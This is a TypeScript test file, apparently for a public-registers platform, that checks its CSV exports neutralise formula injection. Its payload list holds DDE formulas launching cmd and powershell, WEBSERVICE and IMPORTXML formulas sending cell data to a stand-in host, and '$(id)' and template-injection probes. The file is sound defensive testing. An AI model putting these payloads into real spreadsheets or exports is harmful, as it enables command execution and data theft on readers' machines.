import type { TestPlatform } from "@probity/platform/testing/test-platform";
import { platformProof } from "./platform-proof.js";

const figures = { sample: 24, full: 200 } as const;
const starts = ["=", "+", "-", "@", "\t=", "\r=", "＝", "＋", "－", "＠"];
const goesOn = [
  "1+1",
  'HYPERLINK("https://x.example","Read more")',
  "cmd|' /C calc'!A0",
  'IMPORTXML(CONCAT("https://x.example/",A1),"//a")',
  "SUM(A1:A9)*cmd|'/C powershell'!A0",
  'WEBSERVICE("https://x.example/"&A1)',
  'DDE("cmd";"/C calc";"x")',
  '"quoted", and a comma',
  "1\r\n=2",
  "1;=2\t=3",
  "ＣＭＤ",
  "‮reversed",
  "'already'",
  "$(id)",
  "{{7*7}}",
  "-- drop",
  "@SUM(1)",
  "1E9",
  "1 = 2",
  "a".repeat(150),
];

interface Place {
  readonly file: string;
  readonly sql: (words: string) => string;
}

/** Where words stand in what is published, and the data set that shows them. */
export const places: readonly Place[] = [
  {
    file: "registers.csv",
    sql: (words) => `insert into registers.published_entries
      (force_id, person_id, register, category, nil, description, declared_on, published_at, public, details, provision)
      select f.id, h.person_id, 'INTERESTS', 'LAND', false, w, '2025-06-02', now(), true, 'SHOWN', w from ${words}`,
  },
  {
    file: "gifts.csv",
    sql: (words) => `insert into registers.published_gifts
      (force_id, offer_id, person_id, year, number, reference, named_person_id, kind, giver, giver_kind, occasion, description, value_basis, offered_on,
       response, surrendered_to, accepted_before_approval, citation, timing_verified, published_at, public, published_to, note)
      select f.id, uuidv7(), h.person_id, 2025, n, w, h.person_id, 'GIFT', w, 'ORGANISATION', w, w, 'NOT_KNOWN', '2025-06-02',
       'SURRENDERED', w, false, w, false, now(), true, 'PUBLIC', w from ${words}`,
  },
  {
    file: "meetings.csv",
    sql: (words) => `insert into registers.published_meeting_declarations
      (force_id, meeting_id, declaration_id, declaration_version, person_id, body, meeting_name, held_on, place, meeting_closed, item_number, item_title,
       item_closed, named_person_id, kind, local_term, interest, made, published_at, note)
      select f.id, uuidv7(), uuidv7(), 1, h.person_id, 'OTHER', w, '2025-06-02', w, false, w, w, false, h.person_id, 'OTHER', w, w, 'AT_MEETING', now(), w from ${words}`,
  },
];

/** G5: whatever was written in a register, no cell of its CSV begins like a formula. */
export const csvFormulas = platformProof("G5", async ({ platform, random, size, findings }) => {
  const all = starts.flatMap((start) => goesOn.map((rest) => start + rest));
  const chosen = size === "full" ? all : Array.from({ length: figures.sample }, () => random.pick(all));
  if (chosen.length < figures[size]) findings.failures.push(`only ${chosen.length} strings`);
  for (const place of places) {
    const { file } = place;
    await publish(platform, place, chosen);
    const answer = await fetch(`${platform.baseUrl}/staffordshire/${file}`);
    const cells = cellsOf(await answer.text());
    for (const string of chosen) {
      findings.tried++;
      if (!cells.includes(`'${string}`))
        findings.failures.push(`${file} does not show ${JSON.stringify(string)} as text`);
    }
    for (const cell of cells)
      if (/^[=+\-@\t\r＝＋－＠]/u.test(cell)) findings.failures.push(`${file}: ${JSON.stringify(cell)}`);
  }
});

/** Publishes each of the words, in every text of a line of its own of Staffordshire. */
export async function publish({ database }: TestPlatform, { sql }: Place, chosen: readonly string[]): Promise<void> {
  const words = `jsonb_array_elements_text($words$${JSON.stringify(chosen)}$words$::jsonb) with ordinality x (w, n)
    cross join (select id from protocols.forces where slug = 'staffordshire') f
    cross join lateral (select person_id from registers.office_holders where force_id = f.id and role = 'ELECTED_HOLDER' limit 1) h`;
  // What these lines were published from is not there.
  await database.query(`begin; set local session_replication_role = replica; ${sql(words)}; commit`);
}

/** The cells of a table as RFC 4180 has them. */
function cellsOf(csv: string): string[] {
  return [...csv.matchAll(/("(?:[^"]|"")*"|[^",\r\n]*)(?:,|\r\n|$)/gu)].map(([, cell = ""]) =>
    cell.startsWith('"') ? cell.slice(1, -1).replaceAll('""', '"') : cell,
  );
}
